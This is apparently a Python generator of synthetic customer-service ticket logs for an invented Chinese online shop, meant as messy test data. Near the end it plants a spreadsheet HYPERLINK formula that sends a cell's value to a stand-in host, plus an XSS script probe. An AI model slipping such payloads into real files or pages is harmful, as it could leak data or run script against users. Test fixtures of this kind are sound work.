"""云帆商城 (invented): an online shop for companies, with its own ticket system. Sample for `enterprise_service.yaml`.

The model. Customers write or call at any hour; the desk is manned every day from 08:30 to 21:00 in two shifts, at half strength on
holidays. The first free colleague takes a case and keeps it; complex matters go to a specialist, who works on them in pieces
with pauses in between. What goes wrong, goes wrong for a reason:

- *queues*: people do one thing at a time; after the outage of 13–16 October and on 11 November they cannot keep up;
- *days off*: a case waits for its owner, sometimes a colleague helps out without a proper hand-over;
- *forgetting*: one case in fifteen drops from sight for a day or more, more often with a careless owner;
- *habit*: each person has a `care`, the chance of doing the optional right thing (greeting, call-back, naming the next step).

Satisfaction follows from lateness, silence, reopening and the result; about two customers in five answer.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import numpy as np

from .arrivals import arrivals, chance, pick
from .clock import DAY, HOLIDAYS, HOUR, MINUTE, Second, Shifts, at, is_workday, local
from .history import History
from .office import Pass, Person, Story, Telling, Turn, Work, run
from .table import Row, spoil, write_csv

FIRST, LAST = date(2025, 9, 1), date(2025, 11, 30)
EXPORTED: Second = at("2025-12-01 08:00")  # what happened later is not in the file: cases are open there
OUTAGE = {date(2025, 10, 13): 2.2, date(2025, 10, 14): 2.6, date(2025, 10, 15): 1.9, date(2025, 10, 16): 1.4}
SINGLES_DAY = {date(2025, 11, 10): 1.2, date(2025, 11, 11): 2.1, date(2025, 11, 12): 1.8, date(2025, 11, 13): 1.3}

HEADER = (
    "工单编号 操作 操作时间 操作人 岗位 客户编号 客户等级 渠道 问题主题 问题类型 "
    "紧急程度 影响范围 优先级 处理结果 满意度 响应评分 解决评分 透明评分 整改效果 内容"
)

# topic → (share of contacts, classes it turns out to be). Order delays 28 %, system faults 22 %, basic problems about 63 %.
TOPICS: dict[str, tuple[float, dict[str, float]]] = {
    "订单延迟": (28, {"基础": 58, "流程": 36, "复杂": 6}),
    "系统故障": (22, {"基础": 46, "流程": 9, "复杂": 45}),
    "订单状态": (16, {"基础": 97, "流程": 3}),
    "支付失败": (12, {"基础": 86, "流程": 14}),
    "发票": (8, {"基础": 72, "流程": 28}),
    "退换货": (8, {"基础": 22, "流程": 66, "复杂": 12}),
    "账号": (3, {"基础": 92, "流程": 8}),
    "隐私": (1.5, {"特殊": 100}),
    "政策变更": (1.5, {"特殊": 100}),
}
CHANNELS = {"电话": 32, "在线": 34, "邮件": 14, "公众号": 9, "APP": 8, "小程序": 3}
TIERS = {"普通": 72, "重点": 22, "战略": 6}
LIMIT = {"基础": 48, "流程": 72, "复杂": 120, "特殊": 48}  # hours; the ticket system warns at 80 % of it

OFF = {
    "王芳": (0, 1),
    "李娜": (2, 3),
    "张伟": (5, 6),
    "刘洋": (1, 2),
    "陈静": (3, 4),
    "杨帆": (6, 0),
    "赵磊": (4, 5),
    "黄敏": (5, 6),
    "周涛": (0, 6),
    "林晓东": (1, 2),
    "何雨欣": (3, 4),
}


@dataclass(slots=True)
class Team:
    front: list[Person]
    specialists: list[Person]
    supervisors: list[Person]
    quality: list[Person]


def team() -> Team:
    """Everybody has two days off a week; on holidays half of the desk works. Office people keep office days."""

    def desk(name: str, role: str, early: bool, pace: float, care: float) -> Person:
        off, holiday_duty = OFF.get(name, (5, 6)), sum(map(ord, name)) % 2

        def works(day: date) -> bool:
            if day in HOLIDAYS:
                return day.toordinal() % 2 == holiday_duty
            return day.weekday() not in off

        hours = [("08:30", "12:30"), ("13:15", "17:15")] if early else [("12:30", "17:00"), ("17:45", "21:00")]
        return Person(name, role, Shifts.of(FIRST, LAST + timedelta(days=60), works, hours), pace, care)

    def office(name: str, role: str, pace: float, care: float) -> Person:
        return Person(
            name, role, Shifts.of(FIRST, LAST + timedelta(days=60), is_workday, [("09:00", "12:00"), ("13:00", "18:00")]), pace, care
        )

    return Team(
        front=[
            desk("王芳", "一线客服", True, 0.9, 0.97),
            desk("李娜", "一线客服", True, 1.0, 0.95),
            desk("张伟", "一线客服", True, 1.25, 0.86),
            desk("刘洋", "一线客服", False, 1.05, 0.94),
            desk("陈静", "一线客服", False, 0.85, 0.96),
            desk("杨帆", "一线客服", False, 1.4, 0.80),
            desk("赵磊", "一线客服", True, 1.1, 0.92),
        ],
        specialists=[
            desk("黄敏", "专席", True, 0.95, 0.96),
            desk("周涛", "专席", False, 1.15, 0.90),
            office("吴强", "专席", 1.0, 0.93),
            desk("林晓东", "专席", True, 1.0, 0.95),
            desk("何雨欣", "专席", False, 0.95, 0.96),
        ],
        supervisors=[desk("徐静怡", "主管", True, 1.0, 0.97), desk("孙建国", "主管", False, 1.0, 0.94)],
        quality=[office("马丽", "质检", 1.0, 0.97), office("朱文博", "质检", 1.1, 0.95)],
    )


def matrix(urgency: str, impact: str, tier: str) -> str:
    """The priority matrix of the standard, as the handbook of this company prints it."""
    if urgency == "高":
        return "P1" if impact == "全公司" or (impact == "部门" and tier == "战略") else "P2"
    if urgency == "中":
        return "P2" if impact == "全公司" or tier in ("重点", "战略") else "P3"
    return "P3" if tier == "战略" else "P4"


def first_answer(rng: np.random.Generator, who: Person, topic: str) -> str:
    parts = ["您好，" if chance(rng, who.care) else ""]
    parts.append(pick(rng, ["您反映的", "您提到的"]) + topic + "问题" if chance(rng, who.care * 0.95) else topic)
    parts.append(pick(rng, ["已收到，正在核实。", "我来跟进。", "已登记，请稍候。", "马上为您查询。"]))
    if chance(rng, 0.015 * (2 - who.care)):
        parts.append(pick(rng, ["这不归我们管，请找物流。", "请您自己再试一次。", "接口API超时了。"]))
    return "".join(parts)


def progress_note(rng: np.random.Generator, who: Person, topic: str) -> str:
    if chance(rng, who.care * 0.97):
        return pick(
            rng,
            [
                f"{topic}已转技术核查，预计今天答复。",
                "下一步由专席联系您。",
                "已催办，预计明天上午有结果。",
                "补件已寄出，会在三天内送达。",
            ],
        )
    return pick(rng, ["正在处理。", "还在查。", "请耐心等待。"])


def tell(log: History, case: str, start: Second, team: Team) -> Story:
    """One case, from the customer's first word to the last entry."""
    rng = log.rng
    topic = pick(rng, {name: share for name, (share, _) in TOPICS.items()})
    when = local(start).date()
    if when in OUTAGE and chance(rng, 0.7):
        topic = "系统故障"
    if when in SINGLES_DAY and chance(rng, 0.5):
        topic = "订单延迟"
    kind = pick(rng, TOPICS[topic][1])
    tier = pick(rng, TIERS)
    hard = kind in ("复杂", "特殊")
    urgency = pick(rng, {"高": 30, "中": 50, "低": 20} if hard or when in OUTAGE else {"高": 6, "中": 44, "低": 50})
    impact = pick(rng, {"个人": 30, "部门": 45, "全公司": 25} if hard else {"个人": 80, "部门": 18, "全公司": 2})
    channel = pick(rng, CHANNELS)
    if channel == "电话" and not 8.5 <= local(start).hour + local(start).minute / 60 < 20.5:
        channel = "在线"  # nobody picks up at night

    known: Row = {
        "客户编号": f"K{int(rng.beta(0.7, 2.2) * 3000):05d}" if chance(rng, 0.985) else "",
        "客户等级": tier if chance(rng, 0.96) else "",
    }
    opened = {"电话": "电话接入", "在线": "在线接入", "邮件": "邮件接入"}.get(channel, "创建工单")
    entered = start + (25 * MINUTE if chance(rng, 0.004) else 0)  # a call at the next desk, entered when there was time
    log.write(entered, case, opened, None, **known, 渠道=channel if chance(rng, 0.99) else "", 问题主题=topic)
    if channel != "电话" and chance(rng, 0.85):
        log.write(start + 2, case, "自动回执", None)

    # 1 · somebody takes it, 2 · classifies it
    priority = matrix(urgency, impact, tier)
    turn = yield Work(team.front, 4, urgent=priority == "P1" or channel == "电话")
    owner, helper = turn.person, turn.person
    log.write(min(turn.began + 4 + start % 31, turn.done - 1), case, "受理", owner)  # a click, some seconds after he sees it
    if not chance(rng, 0.93 + 0.06 * owner.care):  # by feeling, mostly upwards
        priority = pick(rng, {"P1": 25, "P2": 50, "P3": 20, "P4": 5})
    grading: Row = {"问题类型": kind, "紧急程度": urgency, "影响范围": impact if chance(rng, 0.99) else "", "优先级": priority}
    late_grading = not chance(rng, 0.96 + 0.03 * owner.care)
    if not late_grading:
        log.write(turn.done, case, "分类定级", owner, **grading)

    if chance(rng, 0.018):  # the customer comes in again, by another channel, and somebody opens the case once more
        log.write(turn.done + round(rng.lognormal(np.log(3 * HOUR), 0.8)), case, "在线接入", None, 渠道="在线")

    forgotten = chance(rng, 0.045 + 0.25 * (1 - owner.care))
    if forgotten and chance(rng, 0.55):
        turn = yield Pass(rng.lognormal(np.log(30 * HOUR), 0.6))

    # 3 · answered …
    turn = yield Work(_at_work(rng, owner, turn.done, team.front), 12 if channel == "电话" else 18)
    if chance(rng, 0.04):
        log.write(turn.began, case, "修改备注", turn.person)
    replied = log.write(turn.done, case, "回复客户", turn.person, 内容=first_answer(rng, turn.person, topic))
    if late_grading:
        log.write(turn.done + 40, case, "分类定级", owner, **grading)
    if chance(rng, 0.022):
        turn = yield Pass(rng.lognormal(np.log(9 * HOUR), 0.9))
        log.write(turn.done, case, "客户撤单", None)
        return
    if forgotten:
        yield Pass(rng.lognormal(np.log(26 * HOUR), 0.7))
    if chance(rng, 0.03):  # it turns out to be more serious
        turn = yield Work(team.supervisors, 4)
        urgency, priority = "高", matrix("高", impact, tier)
        log.write(turn.done, case, "调整级别", turn.person, 紧急程度="高", 优先级=priority)

    # … sometimes waiting for the customer …
    if chance(rng, 0.12 if kind == "基础" else 0.3):
        turn = yield Work([owner], 3)
        log.write(turn.done, case, "等待客户补充", turn.person)
        turn = yield Pass(rng.lognormal(np.log(7 * HOUR), 1.0) if chance(rng, 0.93) else 3 * DAY)
        if turn.done - turn.began != 3 * DAY:
            log.write(turn.done, case, "客户补充资料", None, 渠道=channel)

    # … given to a colleague when its owner is off for long …
    if not hard and _away(owner, turn.done) > 14 * HOUR and chance(rng, 0.6):
        turn = yield Work(team.supervisors, 2)
        log.write(turn.done, case, "改派", turn.person)
        turn = yield Work([each for each in team.front if each is not owner], 4)
        owner = helper = turn.person
        log.write(min(turn.began + 6 + start % 41, turn.done - 1), case, "接单", owner)

    # … worked on, by a specialist where it is hard …
    pieces, minutes = {"基础": (1, 22.0), "流程": (2, 35.0), "复杂": (3, 45.0), "特殊": (2, 40.0)}[kind]
    if (hard and chance(rng, 0.9)) or (kind == "流程" and chance(rng, 0.3)):
        log.write((yield Work([owner], 4)).done, case, "升级处理" if hard else "转派部门", owner)
        turn = yield Work(team.specialists + team.supervisors[:1], 6, urgent=priority == "P1")
        helper = turn.person
        if chance(rng, 0.96):
            log.write(min(turn.began + 6 + start % 41, turn.done - 1), case, "接单", helper)
    for piece in range(pieces):
        if piece or kind != "基础":
            turn = yield Pass(rng.lognormal(np.log({"流程": 7, "复杂": 8, "特殊": 3}.get(kind, 3) * HOUR), 0.55))
        turn = yield Work(_at_work(rng, helper, turn.done, team.specialists if hard else team.front), minutes)
        if piece < pieces - 1 and chance(rng, 0.55 + 0.4 * turn.person.care):
            log.write(turn.done, case, "进度告知", turn.person, 内容=progress_note(rng, turn.person, topic))
    outcome = pick(rng, {"已解决": 89, "临时方案": 7, "未解决": 4} if not hard else {"已解决": 80, "临时方案": 13, "未解决": 7})
    solver = turn.person
    log.write(turn.done, case, "处理完成", solver, 处理结果=outcome if chance(rng, 0.985) else "")

    # 4 · … and told. A colleague tells it when the owner is off.
    told = yield from _tell_result(log, case, team, owner, turn, forgotten)
    reopened = chance(rng, 0.035 + 0.06 * (outcome != "已解决") + 0.04 * forgotten)
    while reopened:
        turn = yield Pass(rng.lognormal(np.log(8 * HOUR), 0.8))
        if not chance(rng, 0.93):  # answered on the closed case, without reopening it
            log.write(told + HOUR, case, "结案", owner)
            turn = yield Work([owner], 10)
            log.write(turn.done, case, "回复客户", turn.person, 内容="您好，您反映的问题我再看一下。")
            break
        log.write(turn.done, case, "重新打开", None, 渠道=channel)
        turn = yield Work([owner], 12)
        log.write(turn.done, case, "回复客户", turn.person, 内容=first_answer(rng, turn.person, topic))
        yield Pass(rng.lognormal(np.log(6 * HOUR), 0.6))
        turn = yield Work([helper], minutes)
        log.write(turn.done, case, "处理完成", turn.person, 处理结果="已解决")
        told = yield from _tell_result(log, case, team, owner, turn, False)
        reopened = chance(rng, 0.08)
    _warn(log, case, start, told, kind, owner, topic)

    late = max(0.0, (told - start) / HOUR / LIMIT[kind] - 1)
    yield from _close_the_loop(log, case, team, owner, told, kind, late, outcome == "已解决", (replied - start) / HOUR)

    # 5 · reviewed, if it was serious
    if hard or priority == "P1":
        yield from _improve(log, case, team, solver)


def _away(person: Person, now: Second) -> int:
    return person.shifts.start(now) - now


def _at_work(rng: np.random.Generator, person: Person, now: Second, colleagues: list[Person]) -> list[Person]:
    """Who does the next piece: mostly the one whose case it is; if he is off for long, mostly a colleague lends a hand."""
    return colleagues if chance(rng, 0.65 if _away(person, now) > 14 * HOUR else 0.02) else [person]


def _tell_result(log: History, case: str, team: Team, owner: Person, solved: Turn, forgotten: bool) -> Telling[Second]:
    if forgotten and chance(log.rng, 0.15):
        yield Pass(log.rng.lognormal(np.log(14 * HOUR), 0.4))
    turn = yield Work(_at_work(log.rng, owner, solved.done, [*team.front, solved.person]), 4)
    log.write(
        turn.done,
        case,
        "告知结果",
        turn.person,
        内容=pick(log.rng, ["已为您处理好，请确认。", "问题已解决，感谢等待。", "已处理，如有疑问请联系我。"]),
    )
    return turn.done


def _warn(log: History, case: str, start: Second, told: Second, kind: str, owner: Person, topic: str) -> None:
    """The system warns at 80 % of the limit; most owners then write to the customer."""
    due = start + round(0.8 * LIMIT[kind] * HOUR)
    if told <= due:
        return
    log.write(due, case, "超时预警", None)
    answer = owner.shifts.start(due) + round(log.rng.lognormal(np.log(50 * MINUTE), 0.9))
    if answer < told and chance(log.rng, 0.6 + 0.3 * owner.care):
        log.write(answer, case, "进度告知", owner, 内容=progress_note(log.rng, owner, topic))


def _close_the_loop(
    log: History, case: str, team: Team, owner: Person, told: Second, kind: str, late: float, solved: bool, hours_to_answer: float
) -> Story:
    rng = log.rng
    answered: Second | None = None
    if chance(rng, 0.972):
        asked = log.write(told + round(rng.uniform(60, 40 * MINUTE)), case, "发出评价邀请", None)
        if chance(rng, 0.40):
            answered = asked + round(rng.lognormal(np.log(9 * HOUR), 1.0))
            mood = 95.5 + rng.normal(0, 6) - 9 * min(late, 2.5) - 18 * (not solved) - 2.0 * min(hours_to_answer / 24, 3)
            if chance(rng, 0.035):
                mood -= 45  # the product itself, not the service
            scores = {"满意度": mood, "响应评分": mood + rng.normal(1.0, 4) - hours_to_answer / 20, "解决评分": mood + rng.normal(-0.5, 4)}
            scores["透明评分"] = mood + rng.normal(-2, 5)
            cells: Row = {name: str(int(np.clip(round(score / 5) * 5, 0, 100))) for name, score in scores.items()}
            if chance(rng, 0.02):
                cells["满意度"] = ""
            log.write(answered, case, "客户评价", None, **cells)
            if cells["满意度"] and int(str(cells["满意度"])) < 60 and chance(rng, 0.86):
                yield Pass(max(60, answered - told))
                turn = yield Work(team.supervisors, 15)
                log.write(turn.done, case, "不满意跟进", turn.person)
                answered = turn.done
    if chance(rng, 0.45 + 0.45 * owner.care):
        turn = yield Pass(rng.lognormal(np.log((11 if kind in ("基础", "流程") else 22) * HOUR), 0.45))
        turn = yield Work([owner] if chance(rng, 0.8) else team.front, 5)
        log.write(turn.done, case, "电话回访", turn.person)
        told = max(told, turn.done)
    closes = max(told, answered or 0) + round(rng.uniform(10 * MINUTE, 60 * HOUR))
    log.write(closes, case, "结案", None if chance(rng, 0.7) else owner)
    turn = yield Pass(max(60, closes - told))
    if chance(rng, 0.02):
        log.write(closes + DAY, case, "打印工单", owner)


def _improve(log: History, case: str, team: Team, solver: Person) -> Story:
    rng = log.rng
    if not chance(rng, 0.84):
        return
    yield Pass(rng.lognormal(np.log(1.5 * DAY), 0.6))
    turn: Turn = yield Work(team.quality if chance(rng, 0.975) else [solver], 40)
    log.write(turn.done, case, "问题复盘", turn.person)
    if not chance(rng, 0.94):
        return
    yield Pass(rng.lognormal(np.log(2.2 * DAY), 0.6))
    turn = yield Work(team.supervisors, 30)
    log.write(turn.done, case, "落实整改", turn.person)
    if not chance(rng, 0.9):
        return
    yield Pass(rng.lognormal(np.log(15 * DAY), 0.35))
    turn = yield Work(team.quality, 20)
    log.write(turn.done, case, "效果评估", turn.person, 整改效果="有改善" if chance(rng, 0.84) else "无改善")


def make(folder: Path, seed: int, cases: int) -> Path:
    rng = np.random.default_rng(seed)
    people = team()
    log = History(rng, "工单编号", "操作", "操作时间", "操作人", "岗位", machine=("", "系统"))
    starts = arrivals(rng, cases, FIRST, LAST, surges=OUTAGE | SINGLES_DAY, holiday=0.6)
    run([(start, tell(log, f"GD{local(start):%y%m%d}{n:04d}", start, people)) for n, start in enumerate(starts, 1)], rng)
    rows = log.export(EXPORTED, lambda second: f"{local(second):%Y/%m/%d %H:%M:%S}")

    for n in rng.choice(len(rows), size=len(rows) // 150, replace=False):  # accounts of people who left are blanked out
        if rows[n]["操作人"]:
            rows[n]["操作人"] = "-"
    notes = [n for n, row in enumerate(rows) if row["操作"] == "进度告知"]
    if len(notes) > 10:
        rows[notes[3]]["内容"] = '=HYPERLINK("http://example.invalid/?c="&A2,"点击查看进度")'
        rows[notes[7]]["内容"] = "<script>alert(1)</script>预计明天答复"
        rows[notes[9]]["内容"] = "已核对证件号11010519491231002X，预计今天答复。"  # the number of the standard's own worked example
    broken: list[tuple[int, Row]] = [
        (4, {"工单编号": ""}),
        (3, {"操作时间": "2025/13/45 99:00:00"}),
        (2, {"操作时间": ""}),
        (2, {"操作": ""}),
    ]
    rows = spoil(rng, rows, broken, twice=5)
    path = folder / "enterprise_service.csv"
    write_csv(path, HEADER.split(), rows, encoding="gb18030")
    return path
